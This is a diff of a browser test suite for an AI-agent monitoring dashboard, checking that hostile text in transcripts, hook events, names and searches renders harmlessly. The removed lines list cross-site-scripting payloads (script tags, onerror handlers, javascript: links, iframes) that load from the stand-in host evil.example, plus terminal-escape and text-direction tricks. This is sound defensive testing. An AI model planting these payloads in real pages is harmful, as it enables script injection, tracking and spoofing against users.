@@ -1,163 +1,207 @@
 import { randomUUID } from 'node:crypto'
-import type { Page } from 'playwright-core'
 import { beforeAll, expect, it } from 'vitest'
+import { SECTIONS } from '../../support/browser/addresses.js'
+import { type Guarded, guarded } from '../../support/browser/guarded.js'
+import { HOSTILE_WORDS, RUN } from '../../support/browser/hostile-words.js'
 import { inChromium, useStage } from '../../support/browser/stage.js'
 import { call, text, transcriptOf } from '../../support/browser/transcript.js'
 
-const RUN = 'globalThis.marker=1'
-const ELSEWHERE = 'http://evil.example'
+interface Named {
+  readonly name?: string
+  readonly label?: string
+}
 
-/** What a web page, a file or a model may put in front of an agent, and so into its transcript. */
-const PAYLOADS = [
-  `<script>${RUN}</script>`,
-  `<script src="${ELSEWHERE}/a.js"></script>`,
-  `<img src=x onerror="${RUN}">`,
-  `<img src="${ELSEWHERE}/track.png">`,
-  `<svg onload="${RUN}"><circle r="9"/></svg>`,
-  `<svg><script>${RUN}</script></svg>`,
-  `<math><mtext><style><img src=x onerror="${RUN}"></style></mtext></math>`,
-  `<iframe src="${ELSEWHERE}"></iframe>`,
-  `<iframe srcdoc="<script>parent.marker=1</script>"></iframe>`,
-  `<object data="${ELSEWHERE}/o.swf"></object>`,
-  `<embed src="${ELSEWHERE}/e.swf">`,
-  `<link rel="stylesheet" href="${ELSEWHERE}/s.css">`,
-  `<style>@import url(${ELSEWHERE}/s.css); body { display: none }</style>`,
-  `<div style="background: url(${ELSEWHERE}/b.png); position: fixed; inset: 0">cover</div>`,
-  `<video src="${ELSEWHERE}/v.mp4" onerror="${RUN}" autoplay></video>`,
-  `<details open ontoggle="${RUN}">open</details>`,
-  `<input autofocus onfocus="${RUN}">`,
-  `<form action="${ELSEWHERE}"><button>send</button></form>`,
-  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
-  `<base href="${ELSEWHERE}/">`,
-  `[click](javascript:${RUN})`,
-  `[click](&#106;avascript:${RUN})`,
-  `[click](data:text/html,<script>${RUN}</script>)`,
-  `<a href="java\tscript:${RUN}">click</a>`,
-  `![track](${ELSEWHERE}/p.png)`,
-  `![" onerror="${RUN}](${ELSEWHERE}/q.png)`,
-  `[x](${ELSEWHERE}/"onmouseover="${RUN})`,
-  '\u001B]8;;http://evil.example\u0007link\u001B]8;;\u0007 \u001B[2J\u001B[31mred\u001B[0m \u202Egnp.exe',
-  `\`\`\`html\n</code></pre><script>${RUN}</script>\n\`\`\``,
-  `| a |\n|---|\n| <img src=x onerror="${RUN}"> |`,
-]
+const AGENT = 'a1b2c3d4e5f60718'
+
+/** Opens everything that can be opened, scrolling from where the page is to its end. */
+const openAll = async (
+  { page, expectHarmless }: Guarded,
+  list: string,
+  closed: string,
+  atEnd: () => Promise<boolean>,
+) => {
+  let opened = 0
+  await page.locator(list).hover()
+  for (let over = false; !over; ) {
+    // Asked before the last ones are opened: they come into the list together with its end.
+    over = await atEnd()
+    opened += await page.locator(closed).evaluateAll((all) => {
+      for (const one of all) one.dispatchEvent(new Event('click', { bubbles: true }))
+      return all.length
+    })
+    await page.mouse.wheel(0, 500)
+    await expectHarmless()
+  }
+  return opened
+}
 
 inChromium('hostile words', () => {
   const session = randomUUID()
   const stage = useStage({
     before: (places) => {
-      const transcript = transcriptOf(places, session)
-      for (const [index, payload] of PAYLOADS.entries()) {
-        transcript.user(payload)
-        transcript.assistant(text(payload), call(`toolu_${index}`, payload, { command: payload, file_path: payload }))
-        transcript.result(`toolu_${index}`, payload)
+      const main = transcriptOf(places, session)
+      const sub = transcriptOf(places, session, AGENT)
+      for (const [index, words] of HOSTILE_WORDS.entries()) {
+        main.user(words)
+        main.assistant(text(words), call(`toolu_${index}`, words, { command: words, file_path: words, [words]: words }))
+        main.result(`toolu_${index}`, words)
+        const edit = { file_path: words, old_string: words, new_string: `${words} ` }
+        sub.assistant(text(words), call(`toolu_s${index}`, 'Edit', edit))
       }
-      transcript.user('The last words.')
+      main.user('The last words.')
+      sub.assistant(text('The last words.'))
     },
   })
-  const foreign: string[] = []
-  const guarded = async (path: string): Promise<Page> => {
-    const page = await stage.open()
-    await page.context().route('**', (route) => {
-      const { origin, protocol } = new URL(route.request().url())
-      if (origin === stage.url() || protocol === 'data:' || protocol === 'blob:') return route.continue()
-      foreign.push(route.request().url())
-      return route.abort()
+  const watched = (path: string) => guarded(stage, path)
+  const named = { rules: [] as string[], targets: [] as string[], sources: [] as string[] }
+  /** Gives a name to something; what may not be called so is refused, which is fine too. */
+  const give = async (kind: keyof typeof named, path: string, body: object): Promise<void> => {
+    const answer = await fetch(stage.url() + path, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify(body),
     })
-    page.on('dialog', (dialog) => foreign.push(`dialog ${dialog.message()}`))
-    page.context().on('page', (opened) => foreign.push(`window ${opened.url()}`))
-    await page.goto(stage.url() + path)
-    return page
+    expect([201, 400]).toContain(answer.status)
+    if (answer.status !== 201) return
+    const { rule, target, source } = (await answer.json()) as Record<'rule' | 'target' | 'source', Named | undefined>
+    named[kind].push(rule?.name ?? target?.name ?? source?.label ?? '')
   }
-  const expectHarmless = async (page: Page): Promise<void> => {
-    expect(await page.evaluate('globalThis.marker')).toBeUndefined()
-    expect(foreign).toEqual([])
-    const strangers =
-      'main :is(script, iframe, object, embed, link, style, base, meta, form:not(.filters), video, [onerror], [onload])'
-    expect(await page.locator(strangers).count()).toBe(0)
-    const links = await page.locator('a').evaluateAll((all) => all.map((link) => link.getAttribute('href') ?? ''))
-    expect(links.filter((href) => !/^(?:https?:\/\/|mailto:|\/|#)/.test(href))).toEqual([])
-  }
+  const names: { readonly id: string; readonly name: string }[] = []
   beforeAll(async () => {
-    for (const [index, payload] of PAYLOADS.entries()) {
+    const { hook } = stage.agents
+    for (const [index, words] of HOSTILE_WORDS.entries()) {
       const id = `hostile-${index}`
-      await stage.agents.hook('SessionStart', id, { source: 'startup', cwd: payload, model: payload })
-      await stage.agents.hook('UserPromptSubmit', id, { prompt: payload, session_title: payload })
-      await stage.agents.hook('PermissionRequest', id, { tool_name: payload, tool_input: { command: payload } })
+      await hook('SessionStart', id, { source: words, cwd: words, model: words })
+      await hook('UserPromptSubmit', id, { prompt: words, session_title: words })
+      await hook('SubagentStart', id, { agent_id: `agent-${index}`, agent_type: words })
+      await hook('PermissionRequest', id, { tool_name: words, tool_input: { command: words } })
+      await hook('Notification', 'told', { message: words, title: words, notification_type: words })
+      await hook('PostToolUseFailure', 'told', { tool_name: words, tool_input: words, error: words })
+      await hook('StopFailure', `failed-${index}`, { error: words, error_type: words })
+      await fetch(`${stage.url()}/api/hooks`, {
+        method: 'POST',
+        headers: { 'content-type': 'application/json' },
+        body: JSON.stringify({ hook_type: words, data: { session_id: words } }),
+      })
     }
+    for (const words of HOSTILE_WORDS) {
+      const config = { event_type: words.slice(0, 100), threshold: 1, window_minutes: 5 }
+      await give('rules', '/api/alerts/rules', { name: words, rule_type: 'event_pattern', config, enabled: false })
+      const url = 'https://127.0.0.1:9/hook'
+      await give('targets', '/api/webhooks', { name: words, type: 'generic', url, enabled: false })
+      await give('sources', '/api/remote-sources', { label: words, host: 'nobody.invalid', enabled: false })
+    }
+    const answer = await fetch(`${stage.url()}/api/sessions?limit=1000&q=`)
+    const { sessions } = (await answer.json()) as { sessions: { readonly id: string; readonly name: string | null }[] }
+    for (const { id, name } of sessions) if (id.startsWith('hostile-')) names.push({ id, name: name ?? '' })
   })
 
+  it('are many', () => expect(new Set(HOSTILE_WORDS).size).toBeGreaterThanOrEqual(60))
+
   it('of a transcript run nothing and fetch nothing, opened and scrolled through', async () => {
-    const page = await guarded(`/sessions/${session}`)
-    await page.getByText('The last words.').last().waitFor()
+    const seen = await watched(`/sessions/${session}`)
+    const { page } = seen
+    const end = page.getByText('The last words.').last()
+    await end.waitFor()
     await page.keyboard.press('Home')
     await page
       .locator('.msg')
       .filter({ hasText: `<script>${RUN}</script>` })
       .first()
       .waitFor()
-    // Every call is opened on the way down: the list holds only what is near the window.
-    const closed = page.locator('.call .sum[aria-expanded="false"]')
-    let opened = 0
-    await page.locator('.stream').hover()
-    for (let atEnd = false; !atEnd; ) {
-      // Asked before the calls are opened: the last of them come into the list together with the last words.
-      atEnd = await page.getByText('The last words.').last().isVisible()
-      opened += await closed.evaluateAll((calls) => {
-        for (const one of calls) one.dispatchEvent(new Event('click', { bubbles: true }))
-        return calls.length
-      })
-      await page.mouse.wheel(0, 500)
-      await expectHarmless(page)
-    }
-    expect(opened).toBeGreaterThanOrEqual(PAYLOADS.length)
+    const opened = await openAll(seen, '.stream', '.call .sum[aria-expanded="false"]', () => end.isVisible())
+    expect(opened).toBeGreaterThanOrEqual(HOSTILE_WORDS.length)
+    await page.getByLabel('Reading').selectOption({ index: 1 })
+    await end.waitFor()
+    await seen.expectHarmless()
   })
 
-  it('of hooks run nothing and fetch nothing on Now, beside it, and in the list', async () => {
-    const now = await guarded('/')
-    await now
-      .locator('.row.need')
-      .nth(PAYLOADS.length - 1)
-      .waitFor()
-    for (let visited = 0; visited < PAYLOADS.length; visited += 1) {
-      await now.keyboard.press('n')
-      await now.waitForURL((url) => url.searchParams.get('at') === `hostile-${visited}`)
+  it('of hooks run nothing and fetch nothing on Now and beside it, and are shown as the text they are', async () => {
+    const { page, expectHarmless } = await watched('/')
+    const rows = page.locator('.row.need')
+    await rows.nth(HOSTILE_WORDS.length - 1).waitFor()
+    expect(names.length).toBe(HOSTILE_WORDS.length)
+    const shown = await rows.evaluateAll((all) =>
+      all.map((row) => [row.getAttribute('data-session') ?? '', row.querySelector('b')?.textContent ?? '']),
+    )
+    expect(Object.fromEntries(shown)).toEqual(Object.fromEntries(names.map(({ id, name }) => [id, name])))
+    for (let visited = 0; visited < HOSTILE_WORDS.length; visited += 1) {
+      await page.keyboard.press('n')
+      await page.waitForURL((url) => url.searchParams.get('at') === `hostile-${visited}`)
+      await expectHarmless()
     }
-    await expectHarmless(now)
-    const list = await guarded('/sessions')
-    await list.locator('.row.history').nth(9).waitFor()
-    await expectHarmless(list)
-    const one = await guarded('/sessions/hostile-2')
-    await one.locator('.banner.need').waitFor()
-    await expectHarmless(one)
   })
 
-  it('of both run nothing and fetch nothing among the events, on the timeline, and in figures', async () => {
-    const activity = await guarded('/activity?kind=PermissionRequest')
-    await activity.locator('.event').nth(5).waitFor()
-    const closed = activity.locator('.event-row[aria-expanded="false"]')
-    await activity.locator('.events').hover()
-    let opened = 0
-    while (opened < PAYLOADS.length) {
-      opened += await closed.evaluateAll((rows) => {
-        for (const row of rows) row.dispatchEvent(new Event('click', { bubbles: true }))
-        return rows.length
-      })
-      await activity.locator('.payload').first().waitFor()
-      await activity.mouse.wheel(0, 600)
-      await expectHarmless(activity)
+  it('push nothing out of its place: what stands beside them stays readable', async () => {
+    const { page } = await watched('/')
+    await page.locator('.row.need').nth(9).waitFor()
+    expect(await page.evaluate('document.documentElement.scrollWidth > innerWidth')).toBe(false)
+    const ages = await page
+      .locator('.row .age')
+      .evaluateAll((all) => all.map((age) => age.getBoundingClientRect()).map(({ left, right }) => [left, right]))
+    // One column: a word that turns the direction of writing, or has no end, moves no number.
+    expect(new Set(ages.map(([, right]) => Math.round(right ?? 0))).size).toBe(1)
+  })
+
+  it.each(['?tab=timeline', '?tab=cost', '?tab=agents', '?tab=events'])(
+    'run nothing and fetch nothing on the tab %s of a session',
+    async (tab) => {
+      for (const id of [session, 'hostile-2', 'told', 'failed-3', encodeURIComponent(HOSTILE_WORDS[0] ?? '')]) {
+        const { page, expectHarmless } = await watched(`/sessions/${id}${tab}`)
+        await page.locator('.tabs a').or(page.locator('.note')).first().waitFor()
+        await expectHarmless()
+      }
+    },
+  )
+
+  it('run nothing and fetch nothing among the events, opened on what they carry', async () => {
+    const seen = await watched('/activity?kind=PermissionRequest')
+    await seen.page.locator('.event').nth(5).waitFor()
+    let looked = 0
+    const opened = await openAll(seen, '.events', '.event-row[aria-expanded="false"]', async () => {
+      looked += 1
+      return looked > HOSTILE_WORDS.length
+    })
+    expect(opened).toBeGreaterThanOrEqual(HOSTILE_WORDS.length)
+  })
+
+  it('run nothing and fetch nothing as words that are sought', async () => {
+    const sessions = await watched('/sessions')
+    const activity = await watched('/activity')
+    for (const { page, expectHarmless } of [sessions, activity]) {
+      const field = page.getByRole('searchbox')
+      for (const words of HOSTILE_WORDS) {
+        await field.fill(words)
+        expect(await field.inputValue()).not.toBe('')
+        await expectHarmless()
+      }
+      await page.reload()
+      await field.waitFor()
+      await expectHarmless()
     }
-    const pages = [
-      ['?tab=timeline', '.lane'],
-      ['?tab=cost', '.t'],
-      ['?tab=events', '.event'],
-    ] as const
-    for (const [tab, shows] of pages) {
-      const page = await guarded(`/sessions/${session}${tab}`)
+  })
+
+  it.each([['/sessions', '.row.history'], ['/activity', '.event'], ['/insights?days=all', '.chart'], ...SECTIONS])(
+    'run nothing and fetch nothing on %s',
+    async (path, shows) => {
+      const { page, expectHarmless } = await watched(path)
       await page.locator(shows).first().waitFor()
-      await expectHarmless(page)
+      await expectHarmless()
+    },
+  )
+
+  it.each([
+    ['/config/alerts', 'rules'],
+    ['/config/webhooks', 'targets'],
+    ['/config/sources', 'sources'],
+  ] as const)('that people give as names are shown on %s as the text they are', async (path, kind) => {
+    const { page, expectHarmless } = await watched(path)
+    expect(named[kind].length).toBeGreaterThan(20)
+    const missing = async (): Promise<readonly string[]> => {
+      const shown = await page.locator('main').evaluate((main) => main.textContent ?? '')
+      return named[kind].filter((name) => !shown.includes(name))
     }
-    const insights = await guarded('/insights')
-    await insights.getByRole('heading', { name: 'Tools' }).waitFor()
-    await expectHarmless(insights)
+    await expect.poll(missing).toEqual([])
+    await expectHarmless()
   })
 })
